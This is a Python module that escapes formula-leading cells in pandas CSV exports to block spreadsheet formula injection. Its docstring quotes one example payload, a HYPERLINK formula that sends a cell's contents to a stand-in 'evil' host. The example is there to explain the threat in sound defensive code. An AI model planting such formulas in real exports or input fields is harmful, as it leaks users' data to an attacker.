"""CSV exports that a spreadsheet will not run: formula-leading cells are escaped.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula: ``=HYPERLINK("http://evil/?"&A1, "x")``
typed as a name at sign-in would be live in an admin's audit export (CSV injection, OWASP).
`escape_csv_cells` puts a ``'`` before such text cells, which spreadsheets show as text and
do not evaluate. Numbers stay numbers (a negative number is not text and is left alone).

Pure pandas: pages call it before every ``to_csv``.
"""

from __future__ import annotations

import pandas as pd

#: What a spreadsheet takes as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def escape_cell(value: object) -> object:
    """``value`` with a ``'`` in front when it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def escape_csv_cells(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and text column names) cannot be formulas."""
    out = frame.copy()
    for column in out.columns:
        if not (pd.api.types.is_numeric_dtype(out[column]) or _is_time(out[column])):
            out[column] = out[column].astype(object).map(escape_cell)
    out.columns = [escape_cell(c) for c in out.columns]
    return out


def _is_time(column: pd.Series) -> bool:
    return pd.api.types.is_datetime64_any_dtype(column) or pd.api.types.is_timedelta64_dtype(column)
